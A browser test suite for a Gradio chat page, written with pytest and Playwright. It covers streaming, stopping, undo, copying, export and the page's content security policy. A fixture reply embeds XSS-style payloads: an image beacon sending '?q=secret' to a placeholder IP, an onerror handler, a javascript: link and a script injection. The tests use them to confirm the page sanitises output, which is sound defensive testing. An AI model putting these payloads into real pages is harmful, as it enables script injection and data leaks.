"""The chat page in a real browser: what a visitor types, sees, copies and stops."""

import json
import re

import pytest
from inference_fixtures import COLOURS, EXTRA, NUMBERS, PLACES

pytest.importorskip("gradio", reason="the page needs gradio: pip install gradio")
pytest.importorskip("playwright", reason="browser tests need playwright: pip install playwright")
from page_fixtures import Listening
from playwright.sync_api import expect

from llm_finetuning.inference import page
from llm_finetuning.inference.page import loading

pytestmark = pytest.mark.browser

STEPS = 10  # of the answer to "Count.": "two" is said, "sixteen" is not
TYPED = "\tdef f(a, b):\n\t\treturn a < b && c\n\n  * not a list\n${1 + 1} {{value}} <i>x</i> &lt;\n\n\n"
ANSWER = """# Heading

Remote ![a picture](http://192.0.2.1/leak.png?q=secret) and <img src="http://192.0.2.1/b.png" onerror="hacked=1">.
[script](javascript:hacked=2) [![in a link](http://192.0.2.1/c.png)](http://192.0.2.1/)

~~~python
if a < b && c:
\treturn "<b>"
~~~

    indented & code

| a | b |
|---|---|
| 1 | `x < y` |

one
two
</div></div><script>hacked=3</script> ${hacked=4} {{hacked}}
"""


@pytest.fixture(scope="module")
def slow(chat):
    """A chat whose words come one by one; a test holds them where it looks at them."""
    return Listening(chat, delay=0.05)


@pytest.fixture(scope="module")
def slow_address(slow, serve):
    return serve(slow)


@pytest.fixture(scope="module")
def quick(chat):
    return Listening(chat)


@pytest.fixture(scope="module")
def quick_address(quick, serve):
    return serve(quick)


@pytest.fixture
def visit(new_window):
    """visit(address, width) → a page; what it asks from elsewhere, and any error in it, fails the test."""
    foreign, errors = [], []

    def open_page(address: str, width: int = 1280, **options):
        window = new_window(width, **options)
        window.on("request", lambda r: foreign.append(r.url) if "://127.0.0.1" not in r.url else None)
        window.on("pageerror", lambda error: errors.append(str(error)))
        window.goto(address)
        expect(window.locator("#line textarea")).to_be_visible()
        return window

    yield open_page
    assert [url for url in foreign if not url.startswith(("data:", "blob:"))] == []
    assert errors == []


def say(window, text: str) -> None:
    window.locator("#line textarea").fill(text)
    window.keyboard.press("Enter")


def answer(window, number: int = -1):
    return window.locator("#conversation [data-testid=bot]").nth(number)


def question(window, number: int = -1):
    return window.locator("#conversation [data-testid=user]").nth(number)


def wait_until_idle(window, status: str | re.Pattern = "tokens/s") -> None:
    expect(window.locator("#status")).to_contain_text(status)
    expect(window.get_by_role("button", name="Send")).to_be_visible()


def test_an_answer_streams_in_and_a_follow_up_uses_the_history(visit, slow, slow_address, quick_address):
    window, seen = visit(slow_address), []
    for steps in (4, 3, 3, 3):
        with slow.engine.held(steps):
            if not seen:
                say(window, "Count.")
            expect(answer(window)).not_to_have_text(seen[-1] if seen else "")
            seen.append(answer(window).inner_text())
    assert all(text and NUMBERS.startswith(text) for text in seen) and NUMBERS not in seen
    wait_until_idle(window)
    assert answer(window).inner_text().strip() == NUMBERS
    for name in ("bram", "petra"):
        window = visit(quick_address)
        say(window, f"Which colour does {name} like?")
        expect(answer(window)).to_have_text(f"{name} likes {COLOURS[name]}.")
        wait_until_idle(window)
        say(window, "And where is the house?")
        expect(answer(window)).to_have_text(f"In {PLACES[name]}.")


def stop_one(window, slow) -> None:
    """Asks, stops in the middle, and looks at what is visible: text and status, and nothing over them."""
    with slow.engine.held(STEPS):
        say(window, "Count.")
        expect(answer(window)).to_contain_text("two")
        window.get_by_role("button", name="Stop", exact=True).click()
        wait_until_idle(window, re.compile(r"^\s*\d+ tokens, stopped\s*$"))
    said, steps = answer(window).inner_text(), slow.engine.steps
    assert NUMBERS.startswith(said) and said != NUMBERS
    window.wait_for_timeout(800)
    assert slow.engine.steps <= steps + 1  # the token that was being computed
    assert answer(window).inner_text() == said
    for place in (answer(window), window.locator("#status"), question(window)):
        on_top = "e => { const b = e.getBoundingClientRect();"
        on_top += "return e.contains(document.elementFromPoint(b.x + b.width / 2, b.y + b.height / 2)); }"
        assert place.evaluate(on_top)
    assert window.get_by_text("Error", exact=True).count() == 0
    window.get_by_role("button", name="New conversation").click()
    expect(answer(window, 0)).to_have_count(0)


def test_stop_ends_the_work_and_keeps_text_and_status(visit, slow_address, slow):
    window = visit(slow_address)
    for _ in range(3):
        stop_one(window, slow)
    say(window, "Which colour does mira like?")
    expect(answer(window)).to_have_text("mira likes red.")


def test_what_is_cleared_or_undone_while_it_is_answered_does_not_come_back(visit, slow, slow_address):
    window = visit(slow_address)
    for press in ("New conversation", "Undo"):
        with slow.engine.held(STEPS):
            say(window, "Count.")
            expect(answer(window)).to_contain_text("two")
            window.get_by_role("button", name=press).click()
            expect(window.get_by_role("button", name="Send")).to_be_visible()
        window.wait_for_timeout(1_000)
        assert answer(window).count() == question(window).count() == 0
    assert window.locator("#line textarea").input_value() == "Count."


@pytest.mark.more
def test_stop_fifty_times_on_a_busy_machine(visit, slow_address, slow, busy_machine):
    window = visit(slow_address)
    for _ in range(50):
        stop_one(window, slow)


def test_the_model_gets_what_was_typed_over_all_turns(visit, quick, quick_address):
    window = visit(quick_address)
    say(window, TYPED)
    wait_until_idle(window)
    said = quick.streams[-1].text
    assert quick.asked[-1] == [{"role": "user", "content": TYPED}]
    assert question(window).text_content() == TYPED
    say(window, "  Count.\n\n")
    expect(question(window, 1)).to_be_visible()
    wait_until_idle(window)
    assert [m["content"] for m in quick.asked[-1]] == [TYPED, said, "  Count.\n\n"]
    window.get_by_label("Edit").first.click()
    area = window.locator("#conversation textarea")
    assert area.input_value() == TYPED
    area.fill(TYPED + "!")
    window.get_by_role("button", name="Submit").click()
    expect(question(window, 1)).to_have_count(0)
    wait_until_idle(window)
    assert quick.asked[-1] == [{"role": "user", "content": TYPED + "!"}]
    assert window.evaluate("window.hacked") is None


def test_copy_gives_the_source(visit, quick_address):
    window = visit(quick_address)
    window.evaluate("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    say(window, TYPED)
    wait_until_idle(window)
    window.get_by_label("Copy").first.click()
    assert window.evaluate("window.copied") == TYPED
    window.get_by_role("button", name="New conversation").click()
    expect(question(window, 0)).to_have_count(0)
    say(window, "<b>bold</b>?")
    expect(answer(window)).to_have_text(EXTRA["<b>bold</b>?"])
    wait_until_idle(window)
    window.get_by_label("Copy").last.click()
    assert window.evaluate("window.copied") == EXTRA["<b>bold</b>?"]
    assert window.evaluate("window.hacked") is None and window.locator("#conversation b").count() == 0


@pytest.mark.parametrize("width", [390, 1280])
def test_an_answer_is_markdown_without_markup_or_requests(visit, chat, serve, width):
    window = visit(serve(Listening(chat, says=ANSWER)), width)
    say(window, "Count.")
    wait_until_idle(window)
    shown = answer(window)
    assert shown.locator("pre").all_text_contents() == ['if a < b && c:\n\treturn "<b>"\n', "indented & code\n"]
    colours = "all => all.map((e) => getComputedStyle(e).color)"
    assert len(set(shown.locator("pre code, pre span").evaluate_all(colours))) > 2
    assert shown.locator("h1, td code").all_text_contents() == ["Heading", "x < y"]
    assert shown.locator("img, script, b, i").count() == 0 and window.evaluate("window.hacked") is None
    links = shown.locator("a").evaluate_all("all => all.map(a => [a.textContent, a.getAttribute('href')])")
    assert ["a picture", "http://192.0.2.1/leak.png?q=secret"] in links
    assert all(address.startswith("http://") for _, address in links)
    assert window.evaluate("document.documentElement.scrollWidth") <= width


def test_the_policy_of_the_page_forbids_requests_to_elsewhere(new_window, quick_address):
    window = new_window()
    window.goto(quick_address)
    blocked = """async (address) => {
      const broken = new Promise((done) => addEventListener('securitypolicyviolation', (e) => done(e.blockedURI)));
      const image = document.body.appendChild(new Image());
      image.src = address;
      return await broken + ' ' + await fetch(address).then(() => 'sent', () => 'refused');
    }"""
    assert window.evaluate(blocked, "http://localhost:9/x.png") == "http://localhost:9/x.png refused"


def test_a_conversation_survives_a_reload_and_is_exported(visit, quick_address):
    window = visit(quick_address, accept_downloads=True)
    say(window, TYPED)
    wait_until_idle(window)
    said = answer(window).inner_text()
    window.reload()
    expect(question(window)).to_have_text(TYPED)
    assert question(window).text_content() == TYPED and answer(window).inner_text() == said
    with window.expect_download() as waiting:
        window.get_by_role("button", name="Export").click()
    exported = json.loads(waiting.value.path().read_text(encoding="utf-8"))["messages"]
    assert [m["role"] for m in exported] == ["user", "assistant"] and exported[0]["content"] == TYPED


def test_a_greeting_that_comes_late_leaves_what_was_asked_or_cleared(visit, quick_address):
    window, held = visit(quick_address), []

    def open_with_the_greeting_held() -> None:
        held.clear()
        window.reload()
        expect(window.locator("#line textarea")).to_be_visible()
        while not held:
            window.wait_for_timeout(50)

    def let_the_greeting_come() -> None:
        with window.expect_response("**/queue/join*"):
            held[0].continue_()
        window.wait_for_timeout(1_000)

    window.route("**/queue/join*", lambda route: route.continue_() if held else held.append(route))
    open_with_the_greeting_held()
    say(window, "Count.")
    wait_until_idle(window)
    let_the_greeting_come()
    assert (question(window, 0).text_content(), answer(window).count()) == ("Count.", 1)
    assert "tokens/s" in window.locator("#status").inner_text()
    open_with_the_greeting_held()
    say(window, "Really?")
    wait_until_idle(window)
    let_the_greeting_come()
    assert [question(window, n).text_content() for n in range(2)] == ["Count.", "Really?"]
    open_with_the_greeting_held()
    with window.expect_response("**/run/predict*"):
        window.get_by_role("button", name="New conversation").click()
    let_the_greeting_come()
    assert question(window, 0).count() == 0
    window.reload()
    expect(window.get_by_text("Ask something.")).to_be_visible()


def test_retry_answers_again_and_undo_gives_the_question_back(visit, quick, quick_address):
    window = visit(quick_address)
    window.get_by_role("button", name="Count.").click()  # an example
    expect(answer(window)).to_have_text(NUMBERS)
    wait_until_idle(window)
    say(window, "Really?")
    wait_until_idle(window)
    expect(answer(window, 1)).to_be_visible()
    before = len(quick.asked)
    window.get_by_label("Retry").click()
    while len(quick.asked) == before:  # a quick answer's status is that of the one before
        window.wait_for_timeout(50)
    wait_until_idle(window)
    assert quick.asked[before:] == [quick.asked[before - 1]]
    assert answer(window).count() == 1 and answer(window, 2).count() == 0
    window.get_by_label("Undo").click()
    expect(window.locator("#line textarea")).to_have_value("Really?")
    expect(question(window, 1)).to_have_count(0)


def slide(visitor, name: str, value: str) -> None:
    """Types a slider's value; Gradio drops what is typed while the opened settings are still being drawn."""
    for _ in range(240):
        visitor.get_by_label(f"number input for {name}").fill(value)
        visitor.keyboard.press("Tab")
        if visitor.get_by_label(f"range slider for {name}").input_value() == value:
            return
        visitor.wait_for_timeout(250)
    raise AssertionError(f"{name} did not take {value}")


def test_the_longest_answer_can_be_set(visit, quick_address):
    window = visit(quick_address)
    window.get_by_text("Settings").click()
    slide(window, "Longest answer, in tokens", "3")
    say(window, "Count.")
    expect(window.locator("#status")).to_contain_text("3 tokens in")
    expect(answer(window)).to_have_text("one two thre")


def test_what_is_empty_or_too_long_is_refused_with_its_text_kept(visit, quick_address):
    window = visit(quick_address)
    say(window, "   ")
    expect(window.get_by_text("Type a question first.")).to_be_visible()
    pasted = "x" * (page.MAX_CHARACTERS + 1_000)
    say(window, pasted)
    expect(window.locator("#status")).to_contain_text("5,000 characters are too many")
    assert window.locator("#line textarea").input_value() == pasted
    assert question(window).count() == 0


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_hangs_over_the_edge_and_all_has_a_name(visit, quick_address, width):
    window = visit(quick_address, width)
    say(window, "Which colour does mira like? " + "m" * 100)
    wait_until_idle(window)
    assert window.evaluate("document.documentElement.scrollWidth") <= width
    for place in ("#title", "#conversation", "#line"):
        box = window.locator(place).first.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= width
    assert window.get_by_role("textbox", name="Message").is_visible()
    nameless = window.get_by_role("button").evaluate_all(
        "all => all.filter(b => !(b.getAttribute('aria-label') || b.textContent).trim()).map(b => b.outerHTML)"
    )
    assert nameless == []


def test_who_waits_is_told_the_place_in_the_queue(visit, slow, slow_address):
    first, second = visit(slow_address), visit(slow_address)
    with slow.engine.held(STEPS):
        say(first, "Count.")
        expect(answer(first)).to_contain_text("one")
        say(second, "Which colour does bram like?")
        expect(second.locator("#status")).to_contain_text("Number 1 in the queue")
        first.get_by_role("button", name="Stop", exact=True).click()
    expect(answer(second)).to_have_text("bram likes blue.")


def test_the_page_is_there_while_the_model_loads_and_says_what_it_is(visit, serve, chat):
    waiting = loading.Loading("Loading tiny …")
    window = visit(serve(None, waiting=waiting))
    expect(window.locator("#status")).to_contain_text("Loading tiny")
    say(window, "Count.")
    expect(window.locator("#status")).to_contain_text("still loading")
    sample = Listening(chat)
    sample.is_sample = True
    waiting.run(lambda: sample)
    expect(answer(window)).to_have_text(NUMBERS)
    expect(window.get_by_text("tiny sample model")).to_be_visible()


def test_a_model_that_cannot_be_loaded_is_said(visit, serve, tmp_path):
    from llm_finetuning.inference.chat import Chat

    failed = loading.Loading()
    with pytest.raises(FileNotFoundError):
        failed.run(lambda: Chat.load(tmp_path / "nowhere"))
    window = visit(serve(None, waiting=failed))
    expect(window.locator("#status")).to_contain_text("nowhere is not there")
    say(window, "Count.")
    expect(window.locator("#status")).to_contain_text("nowhere is not there")
